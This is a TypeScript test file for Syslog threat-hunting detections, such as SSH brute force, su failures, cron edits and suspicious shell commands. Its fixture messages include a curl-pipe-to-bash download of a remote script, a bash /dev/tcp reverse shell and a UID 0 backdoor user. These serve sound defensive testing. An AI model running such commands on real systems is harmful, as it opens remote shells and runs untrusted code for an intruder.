/**
 * The "linux" family of the hunting library, run on the bundled demo case; expected values
 * come from fixtures/demo-case/ANSWERS.md. Detections the demo case has nothing for (su
 * failures, cron edits, reverse shells, stopped services) run on small hand-written Syslog
 * tables whose expected hits are written out by hand.
 */
import assert from "node:assert/strict";
import { FAMILY as LINUX } from "../../src/hunt/library/_linux.ts";
import type { HuntQuery } from "../../src/hunt/types.ts";
import { rows, runOnDemo, substitute } from "./_family_check.ts";
import { runKql } from "../../src/kql/mod.ts";
import { SENTINEL_SCHEMAS } from "../../src/schema/mod.ts";
import { pl } from "../../src/polars.ts";

function query(name: string): HuntQuery {
  const found = LINUX.queries.find((q) => q.name === name);
  assert.ok(found, `linux.${name} exists`);
  return found;
}

Deno.test("linux: every query is well formed and runs with the columns it declares", async () => {
  const names = new Set<string>();
  for (const q of LINUX.queries) {
    assert.match(q.name, /^[a-z][A-Za-z0-9]*$/, q.name);
    assert.ok(!names.has(q.name), `${q.name} is unique`);
    names.add(q.name);
    assert.deepEqual(q.tables, ["Syslog"]);
    for (const t of q.techniques) assert.match(t, /^T\d{4}(\.\d{3})?$/, `${q.name}: ${t}`);
    assert.match(q.query, /\| where TimeGenerated between \(\{start\} \.\. \{end\}\)/);
    await runOnDemo(q);
  }
});

/** Runs a query on a Syslog table of hand-written messages (time, host, process, message). */
async function onSyslog(q: HuntQuery, lines: [string, string, string, string][]) {
  const schema = SENTINEL_SCHEMAS.Syslog;
  const frame = pl.DataFrame({
    TimeGenerated: lines.map((l) => new Date(l[0])),
    Computer: lines.map((l) => l[1]),
    HostName: lines.map((l) => l[1]),
    ProcessName: lines.map((l) => l[2]),
    SyslogMessage: lines.map((l) => l[3]),
    Facility: lines.map(() => "authpriv"),
    SeverityLevel: lines.map(() => "notice"),
  });
  const out = await runKql(substitute(q), {
    tables: { Syslog: frame },
    schemas: {
      Syslog: {
        name: "Syslog",
        columns: schema.columns.filter((c) => frame.columns.includes(c.name)),
      },
    },
    now: new Date("2026-03-16T00:00:00Z"),
  });
  assert.deepEqual(out.columns, [...q.columns]);
  return out.toRecords() as Record<string, unknown>[];
}

Deno.test("linux: detections on hand-written Syslog messages", async () => {
  const t = "2026-03-14T10:00:";
  const fails = Array.from(
    { length: 6 },
    (_, i) =>
      [
        `${t}0${i}Z`,
        "web1",
        "sshd",
        `Failed password for root from 198.51.100.7 port 4${i}000 ssh2`,
      ] as [string, string, string, string],
  );
  const success = await onSyslog(query("sshSuccessAfterFailures"), [
    ...fails,
    [`${t}30Z`, "web1", "sshd", "Accepted password for root from 198.51.100.7 port 45000 ssh2"],
    // A user who typed the password wrong once, then got in: below the threshold.
    [`${t}40Z`, "web1", "sshd", "Failed password for amy from 10.0.0.5 port 1000 ssh2"],
    [`${t}41Z`, "web1", "sshd", "Accepted password for amy from 10.0.0.5 port 1001 ssh2"],
  ]);
  assert.deepEqual(
    success.map((r) => [r.SourceIp, r.Failures, JSON.parse(String(r.SuccessUsers))]),
    [
      ["198.51.100.7", 6, ["root"]],
    ],
  );

  const su = await onSyslog(query("suFailures"), [
    [
      `${t}00Z`,
      "web1",
      "su",
      "pam_unix(su:auth): authentication failure; logname=www-data uid=33 euid=0 tty=pts/1 ruser=www-data rhost=  user=root",
    ],
    [
      `${t}05Z`,
      "web1",
      "su",
      "pam_unix(su:session): session opened for user root by amy(uid=1000)",
    ],
  ]);
  assert.deepEqual(su.map((r) => [r.FromUser, r.ToUser]), [["www-data", "root"]]);

  const cron = await onSyslog(query("cronChanges"), [
    [`${t}00Z`, "web1", "crontab", "(www-data) REPLACE (www-data)"],
    [`${t}01Z`, "web1", "CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"],
  ]);
  assert.deepEqual(cron.map((r) => [r.User, r.Action]), [["www-data", "REPLACE"]]);

  const shell = await onSyslog(query("suspiciousShellCommands"), [
    [
      `${t}00Z`,
      "web1",
      "sudo",
      "amy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl -s http://198.51.100.9/x.sh | bash",
    ],
    [`${t}01Z`, "web1", "bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
    [
      `${t}02Z`,
      "web1",
      "sudo",
      "amy : TTY=pts/0 ; PWD=/home/amy ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/a.tgz https://example.org/a.tgz",
    ],
  ]);
  assert.equal(shell.length, 2);

  const stopped = await onSyslog(query("securityServicesStopped"), [
    [`${t}00Z`, "web1", "systemd", "Stopped Security Auditing Service."],
    [`${t}01Z`, "web1", "systemd", "Stopped Daily apt download activities."],
  ]);
  assert.deepEqual(stopped.map((r) => r.Service), ["Security Auditing Service"]);

  const added = await onSyslog(query("usersOrGroupsAdded"), [
    [
      `${t}00Z`,
      "web1",
      "useradd",
      "new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
    ],
  ]);
  assert.deepEqual(added.map((r) => r.Name), ["backup2"]);
});

Deno.test("linux.sshBruteForceSources: the password-guessing bursts against lks-sftp01", async () => {
  const found = rows(await runOnDemo(query("sshBruteForceSources")));
  assert.ok(found.length > 0);
  // ANSWERS.md: lks-sftp01 gets two to four bursts a day; no other host is brute-forced.
  for (const r of found) assert.equal(r.Computer, "lks-sftp01");
  const days = new Set(found.map((r) => String(r.Hour).slice(0, 10)));
  assert.ok(days.size >= 6, `bursts on ${days.size} of the 7 days`);
  // The admin's key-based logons from LKS-JUMP01 never count as failures.
  assert.ok(!found.some((r) => r.SourceIp === "10.10.1.70"));
});

Deno.test("linux: context of LKS-JUMP01's address, tom.harper and lks-sftp01", async () => {
  const fromIp = rows(await runOnDemo(query("authEventsFromIp")));
  assert.ok(fromIp.length > 0);
  for (const r of fromIp) {
    assert.equal(r.User, "tom.harper");
    assert.equal(r.Outcome, "Success");
  }
  const logons = rows(await runOnDemo(query("sshLogonsOfAccount")));
  assert.ok(logons.length > 0);
  assert.ok(logons.every((r) => r.SourceIp === "10.10.1.70" && r.Method === "publickey"));
  const activity = rows(await runOnDemo(query("hostActivity")));
  assert.ok(activity.some((r) => r.ProcessName === "sshd"));
  const sudo = rows(await runOnDemo(query("sudoToRoot")));
  assert.ok(sudo.length > 0);
  const excluded = rows(await runOnDemo(query("sudoToRoot"), { excludeUsers: ["tom.harper"] }));
  assert.equal(excluded.length, 0);
});
